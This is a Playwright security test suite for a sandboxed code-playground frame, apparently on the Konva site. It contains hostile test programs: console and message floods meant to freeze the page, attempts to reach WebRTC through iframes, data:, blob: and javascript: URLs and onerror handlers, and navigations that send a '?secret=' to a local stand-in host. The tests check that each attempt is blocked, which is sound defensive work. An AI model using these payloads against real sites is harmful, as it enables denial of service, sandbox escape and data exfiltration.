import { expect, type Page, test } from '@playwright/test';
import { findBrowser, TEST_BROWSER_ARGS } from '../scripts/find-browser';
import { serveBuild } from '../scripts/serve-build';
import { BUILD_FOLDER } from '../testing/paths';
import {
  attack,
  attackWithPort,
  expectNothingSent,
  expectRecovery,
  writePortTaker,
  frameDocumentOf,
  openRect,
  startOtherHost,
} from './support/attacks';
import type { ShownDemo } from './support/shown-demo';

// As in a browser with windows, a frame has its own process.
const OWN_PROCESS = '--enable-features=IsolateSandboxedIframes:grouping/per-document,CDPScreenshotNewSurface';
test.use({ launchOptions: { executablePath: findBrowser(), args: [...TEST_BROWSER_ARGS, OWN_PROCESS] } });

/** How long the page may take to do what the reader asks, in milliseconds. */
const AT_ONCE = 1000;
/**
 * Maximum time in which the page may be blocked, in milliseconds; a busy machine needs some of it. Without limits, it was ten seconds and
 * more.
 */
const PAUSE = 2000;

/** Records the longest time in which the page was blocked. */
async function watchPauses(page: Page): Promise<() => Promise<number>> {
  await page.evaluate(() => {
    let last = performance.now();
    document.documentElement.dataset['longestPause'] = '0';
    setInterval(() => {
      const { dataset } = document.documentElement;
      const now = performance.now();
      dataset['longestPause'] = String(Math.max(Number(dataset['longestPause']), Math.round(now - last)));
      last = now;
    }, 20);
  });
  return () => page.evaluate(() => Number(document.documentElement.dataset['longestPause']));
}

async function expectTypingWorks(page: Page, shown: ShownDemo): Promise<void> {
  const editor = shown.player.getByRole('textbox');
  await editor.focus();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.insertText('// the reader');
  await expect(editor).toContainText('// the reader', { timeout: AT_ONCE });
}

/** A link of the site navigates to its page, and the page renders. */
async function expectLeavingWorks(page: Page): Promise<void> {
  await page.getByRole('navigation').getByRole('link', { name: 'Konva', exact: true }).first().click();
  await expect(page).toHaveURL(/\/$/, { timeout: AT_ONCE });
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

const GRAPH = `let graph: unknown = { kind: 'text', text: 'x' };
  for (let level = 0; level < 12; level += 1) {
    const entry = { key: 'k', value: graph };
    graph = { kind: 'object', label: 'o', more: 0, entries: Array.from({ length: 200 }, () => entry) };
  }`;

/** Messages of a program that has taken over the frame's own program. Each would have frozen the page or crashed the tab. */
const FLOODS: readonly [string, string][] = [
  [
    'values whose parts are shared a thousand million times',
    attackWithPort(`${GRAPH}
  setInterval(() => { for (let runId = 1; runId < 6; runId += 1) raw({ type: 'console', runId, entry: { level: 'log', at: 1, values: [graph] } }); }, 10);`),
  ],
  [
    'long texts without number',
    attackWithPort(`const entries = Array.from({ length: 190 }, () => ({ key: '', value: { kind: 'text', text: 'x'.repeat(400) } }));
  setInterval(() => { for (let n = 0; n < 50; n += 1) line([{ kind: 'object', label: String(n), more: 0, entries }]); }, 1);`),
  ],
  ['a text of fifty million characters', attackWithPort("raw('x'.repeat(50_000_000));")],
  [
    'thousands of lines a second',
    attackWithPort(
      "let n = 0; setInterval(() => { for (let i = 0; i < 1000; i += 1) line([{ kind: 'text', text: String(n += 1) }]); }, 1);",
    ),
  ],
  [
    'thousands of errors a second with a place',
    attackWithPort(`let n = 0;
  setInterval(() => {
    for (let i = 0; i < 1000; i += 1) ofRun({ type: 'error', error: { phase: 'event', name: 'E', message: String(n += 1), file: 'index.ts', line: n % 9 + 1, column: 3 } });
  }, 1);`),
  ],
  [
    'thousands of errors a second without a place',
    attackWithPort(`let n = 0;
  setInterval(() => { for (let i = 0; i < 1000; i += 1) ofRun({ type: 'error', error: { phase: 'promise', name: 'E', message: String(n += 1) } }); }, 1);`),
  ],
  ['nothing, very often', attackWithPort("setInterval(() => { for (let i = 0; i < 5000; i += 1) raw(''); }, 1);")],
  [
    'messages to the page’s window',
    attack(
      "setInterval(() => { for (let i = 0; i < 2000; i += 1) top!.postMessage({ n: Array.from({ length: 100 }, () => i) }, '*'); }, 1);",
    ),
  ],
];

test.describe(() => {
  // The script that takes the port is written into the frame's document. Every other test needs the policy.
  test.use({ bypassCSP: true });

  for (const [name, code] of FLOODS) {
    test(`a program that sends ${name} is stopped and reported; typing and leaving the page work at once`, async ({
      page,
    }) => {
      await writePortTaker(page);
      const shown = await openRect(page);
      const longestPause = await watchPauses(page);
      await shown.replaceCode(code);
      await expect(shown.player.getByRole('alert')).toContainText('more than it can take');
      await expect(shown.player).toHaveAttribute('data-state', 'failed');
      await expect(shown.player.locator('iframe[title^="Result: "]')).toHaveCount(0);
      await expectTypingWorks(page, shown);
      expect(await longestPause(), 'the longest pause of the page').toBeLessThan(PAUSE);
      expect(await shown.player.locator('.kd-console-line').count()).toBeLessThanOrEqual(300);
      await expectRecovery(shown);
      await expectLeavingWorks(page);
    });
  }
});

test('a program that logs and throws endlessly through its own console is throttled; Stop, typing and leaving the page work at once', async ({
  page,
}) => {
  const shown = await openRect(page);
  const longestPause = await watchPauses(page);
  await shown.replaceCode(
    attack(`
let graph: unknown = 'leaf';
for (let level = 0; level < 12; level += 1) graph = Array.from({ length: 200 }, () => graph);
let n = 0;
setInterval(() => {
  for (let i = 0; i < 50; i += 1) console.log('turn', n += 1, graph, 'x'.repeat(5000));
  for (let i = 0; i < 50; i += 1) void Promise.reject(new Error('error ' + n));
  setTimeout(() => { throw new Error('error ' + n); });
}, 5);`),
  );
  await expect(shown.player.getByRole('log')).toContainText('more lines came too fast');
  await expect(shown.player).toHaveAttribute('data-state', 'running');
  await shown.player.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(shown.player).toHaveAttribute('data-state', 'stopped', { timeout: AT_ONCE });
  await expectTypingWorks(page, shown);
  expect(await longestPause(), 'the longest pause of the page').toBeLessThan(PAUSE);
  await expectRecovery(shown);
  await expectLeavingWorks(page);
});

test('a logged value renders when the reader opens it', async ({ page }) => {
  const shown = await openRect(page);
  await shown.replaceCode(attack("console.log({ outer: { inner: 'the leaf' } });"));
  const log = shown.player.getByRole('log');
  await expect(log).toContainText('outer');
  await expect(log).not.toContainText('the leaf');
  await log.locator('summary').first().click();
  await log.locator('summary').nth(1).click();
  await expect(log).toContainText("'the leaf'");
});

test('a program has no WebRTC and cannot get it from a frame, a window or a worker', async ({ page }) => {
  const other = await startOtherHost();
  const shown = await openRect(page);
  // The frames' program is the only script that a nested frame may run.
  const ownDocument = await frameDocumentOf(page);
  const try_ = `(window.RTCPeerConnection || window.webkitRTCPeerConnection)`;
  const inside = `
const Connection = ${try_};
if (Connection) {
  for (const urls of ['stun:127.0.0.1:${other.port}', 'turn:127.0.0.1:${other.port}?transport=tcp']) {
    const connection = new Connection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    connection.createDataChannel('x');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }
}
parent.postMessage('child ' + typeof Connection, '*');`;
  await shown.replaceCode(
    attack(`
const seen: string[] = [];
const names = Object.getOwnPropertyNames(window).filter((name) => /RTC|PeerConnection|WebTransport/.test(name));
seen.push('names ' + names.length);
const wait = <T,>(promise: Promise<T>, most = 1000) => Promise.race([promise, new Promise<string>((resolve) => setTimeout(resolve, most, 'silent'))]);
const heard = () => new Promise<string>((resolve) => addEventListener('message', ({ data }) => { if (String(data).startsWith('child')) resolve(data); }));
const scriptOf = (code: string, type = 'text/javascript') => URL.createObjectURL(new Blob([code], { type }));
const code = ${JSON.stringify(inside)};

const read = (element: HTMLIFrameElement | HTMLObjectElement | HTMLEmbedElement) => {
  document.body.append(element);
  try {
    return typeof Reflect.get(Reflect.get(element, 'contentWindow') ?? element, 'RTCPeerConnection');
  } catch (error) {
    return (error as Error).name;
  }
};
seen.push('blank ' + read(document.createElement('iframe')));
seen.push('object ' + read(Object.assign(document.createElement('object'), { data: 'about:blank', type: 'text/html' })));
seen.push('embed ' + read(Object.assign(document.createElement('embed'), { src: 'about:blank', type: 'text/html' })));
seen.push('window ' + open('about:blank'));
const view = document.implementation.createHTMLDocument('').defaultView;
seen.push('document ' + view);
document.open();
seen.push('reopened ' + typeof Reflect.get(window, 'RTCPeerConnection'));

for (const [name, html] of Object.entries({
  inline: '<script>' + code + '</' + 'script>',
  blob: '<script src="' + scriptOf(code) + '"></' + 'script>',
  handler: '<img src=x onerror="' + code.replaceAll('"', "'") + '">',
})) {
  const element = document.createElement('iframe');
  const said = heard();
  element.srcdoc = html;
  document.body.append(element);
  seen.push(name + ' ' + (await wait(said)));
}
for (const [name, address] of Object.entries({
  page: scriptOf('<script src="' + scriptOf(code) + '"></' + 'script>', 'text/html'),
  data: 'data:text/html,' + encodeURIComponent('<script>' + code + '</' + 'script>'),
  javascript: 'javascript:' + code,
})) {
  const element = document.createElement('iframe');
  const said = heard();
  element.src = address;
  document.body.append(element);
  seen.push(name + ' ' + (await wait(said)));
}

const own = document.createElement('iframe');
own.srcdoc = ${JSON.stringify(ownDocument).replaceAll('</', '<\\/')};
const loaded = new Promise((resolve) => { own.onload = resolve; });
document.body.append(own);
await wait(loaded, 20_000);
const { port1, port2 } = new MessageChannel();
const said = heard();
own.contentWindow!.postMessage('port', '*', [port2]);
port1.start();
port1.postMessage({ type: 'vendors', specifiers: {}, bundles: {} });
port1.postMessage({
  type: 'run', runId: 1, assets: {}, mount: 'vanilla',
  demo: { flavour: 'vanilla', entry: 'index.ts', modules: [{ path: 'index.ts', code, links: [] }], styles: [], html: '', assets: [], packages: [] },
});
seen.push('own ' + (await wait(said, 5000)));

const worker = new Worker(scriptOf("postMessage('worker ' + typeof self.RTCPeerConnection)"));
seen.push(await wait(new Promise<string>((resolve) => { worker.onmessage = ({ data }) => resolve(data); }), 20_000));
console.log(seen.join(', '));`),
  );
  const log = shown.player.getByRole('log');
  await expect(log).toContainText('worker', { timeout: 60_000 });
  const said = await log.locator('.kd-console-line', { hasText: 'worker' }).first().innerText();
  expect(said).toContain('names 0');
  expect(said).toContain('worker undefined');
  expect(said).toContain('window null');
  expect(said).toContain('document null');
  expect(said).toContain('blank SecurityError');
  for (const name of ['inline', 'blob', 'handler', 'page', 'data', 'javascript', 'own'])
    expect(said).toContain(`${name} silent`);
  expect(said).not.toContain('function');
  expect(other.heard).toEqual([]);
  await other.close();
});

/** Ways in which a frame can navigate itself to another URL. */
const DEPARTURES: readonly [string, (address: string) => string][] = [
  ['its location', (address) => `location.href = '${address}';`],
  [
    'a meta element',
    (address) =>
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=${address}' }));`,
  ],
  [
    'answers without content, again and again',
    (address) => `setInterval(() => { location.href = '${address}' + Math.random(); }, 50);`,
  ],
  [
    'a link',
    (address) =>
      `const link = Object.assign(document.createElement('a'), { href: '${address}' }); document.body.append(link); link.click();`,
  ],
  [
    'a download',
    (address) =>
      `const link = Object.assign(document.createElement('a'), { href: '${address}', download: 'x' }); document.body.append(link); link.click();`,
  ],
];

test.describe('on a host without headers', () => {
  for (const [name, code] of DEPARTURES) {
    test(`a program cannot reach another host by ${name}`, async ({ page }) => {
      const [other, site] = await Promise.all([startOtherHost(), serveBuild({ root: BUILD_FOLDER })]);
      await page.addInitScript(() => {
        if (window !== window.top) return;
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          document.documentElement.dataset['refused'] = effectiveDirective;
        });
      });
      const shown = await openRect(page, site.url);
      await shown.replaceCode(attack(code(`http://127.0.0.1:${other.port}/?secret=`)));
      await expect(page.locator('html')).toHaveAttribute('data-refused', 'frame-src');
      expectNothingSent(other);
      await expectRecovery(shown);
      expectNothingSent(other);
      await Promise.all([other.close(), site.close()]);
    });
  }

  test('the other host of these tests records what reaches it', async ({ page }) => {
    const other = await startOtherHost();
    await page.goto('about:blank');
    await page.evaluate((port) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      connection.createDataChannel('x');
      void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      new Image().src = `http://127.0.0.1:${port}/picture`;
    }, other.port);
    await expect.poll(() => other.heard).toEqual(expect.arrayContaining(['datagram', 'connection']));
    await other.close();
  });
});
